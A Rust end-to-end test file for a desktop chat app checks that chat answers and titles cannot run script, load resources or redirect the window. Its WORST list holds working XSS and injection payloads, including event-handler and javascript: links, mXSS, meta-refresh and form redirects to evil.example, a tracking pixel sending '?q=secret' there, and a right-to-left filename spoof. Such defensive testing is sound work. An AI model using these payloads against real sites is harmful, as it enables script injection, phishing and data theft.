//! What an answer or a title can not do to the real window.

use patchbay_tests::Outcome;
use patchbay_tests::desktop::Desktop;
use patchbay_tests::tour::id;
use serde_json::Value;

use crate::talk::answered;
use crate::{Tested, pictures, signed_in, stage};

/// The worst of the pages' own collection (`ui/test/hostile`). A script of theirs would set `__pwned`.
const WORST: &[&str] = &[
    "<script>__pwned=1</script>",
    "<img src=x onerror=__pwned=1>",
    "<svg onload=__pwned=1>",
    "<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__pwned=1&gt;'>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<details open ontoggle=__pwned=1>x</details>",
    "<input autofocus onfocus=__pwned=1>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><link rel=stylesheet href=x.css>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/c)'>cover</div>",
    "[x](javascript:__pwned=1)",
    "[x](java&Tab;script:__pwned=1)",
    "[x](data:text/html,<script>__pwned=1</script>)",
    "[x](patchbay://auth/callback?code=1&state=2)",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduZWQ9MSIvPg==)",
    "```\"><script>__pwned=1</script>",
    "[paypal.com](https://evil.example) invoice\u{202e}gnp.exe",
];

/// Writes `prompt` (any characters, which keys could not type) and sends it.
async fn send(window: &Desktop, prompt: &str) -> Outcome<()> {
    window.find(&id("composer-input")).await?;
    let text = serde_json::to_string(prompt)?;
    window
        .script(&format!(
            "const field = document.querySelector('[data-testid=composer-input]');
             field.value = {text};
             field.dispatchEvent(new Event('input', {{ bubbles: true }}));",
        ))
        .await?;
    window.click(&id("send")).await
}

/// What is wrong with the page now; an empty list.
async fn wrong(window: &Desktop) -> Outcome<Value> {
    window
        .script(
            "const wrong = [...window.__reports];
             if (window.__pwned !== undefined) wrong.push('a script ran');
             if (location.href !== window.__place) wrong.push(`the window went to ${location.href}`);
             for (const element of document.body.querySelectorAll('*')) {
               if (/^(script|img|iframe|object|embed|form|style|link|meta|base|video|audio|math|details)$/i.test(element.tagName)) wrong.push(element.outerHTML);
               for (const { name, value } of element.attributes) {
                 if (name.startsWith('on') || /^(src|srcset|srcdoc|action|formaction|poster|background|ping)$/.test(name)) wrong.push(`${name}=${value}`);
                 if (name === 'href' && !/^(https?:\\/\\/|mailto:)/.test(value)) wrong.push(`${name}=${value}`);
               }
             }
             if (/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.textContent)) wrong.push('a direction is hidden');
             for (const { name } of performance.getEntriesByType('resource'))
               if (!/^(tauri:|ipc:|https?:\\/\\/(tauri|ipc)\\.localhost)/.test(name)) wrong.push(`asked for ${name}`);
             return wrong;",
        )
        .await
}

#[tokio::test]
async fn no_answer_or_title_runs_loads_or_leads_anywhere() -> Tested {
    let stage = stage()?;
    let window = signed_in(&stage).await?;
    window
        .script(
            "window.__place = location.href;
             window.__reports = [];
             addEventListener('securitypolicyviolation', (it) => window.__reports.push(`${it.violatedDirective} ${it.blockedURI}`));
             for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => window.__reports.push(name);",
        )
        .await?;
    window.click(&id("nav-chat")).await?;
    for (index, text) in WORST.iter().enumerate() {
        send(&window, &format!("say:{text}")).await?;
        answered(&window, 2 * (index + 1) as u64).await?;
        assert_eq!(wrong(&window).await?, Value::Array(Vec::new()), "{text}");
    }
    // The last one's link: a click shows where it leads, and the window stays.
    window
        .script("[...document.querySelectorAll('[data-testid=answer] a')].at(-1).id = 'last-link'")
        .await?;
    window.click("#last-link").await?;
    let shown = window.text_when(&id("link"), |text| text.contains("evil.example")).await?;
    assert!(shown.contains("paypal.com"), "{shown}");
    window.picture(&pictures(), "07-chat-link").await?;
    window.click(&id("link-cancel")).await?;
    // A picture's place, and what its button shows.
    window.click(&id("picture-address")).await?;
    window.text_when(&id("link-address"), |text| text.contains("pixel.png?q=secret")).await?;
    window.click(&id("link-cancel")).await?;
    // The page can not be taken elsewhere, nor open another window, by script either.
    window
        .script("window.open('https://evil.example/'); location.href = 'https://evil.example/'")
        .await?;
    tokio::time::sleep(std::time::Duration::from_millis(700)).await;
    assert_eq!(window.script("return location.href === window.__place").await?, Value::Bool(true));
    assert_eq!(window.windows().await?, 1);
    Ok(window.close().await?)
}
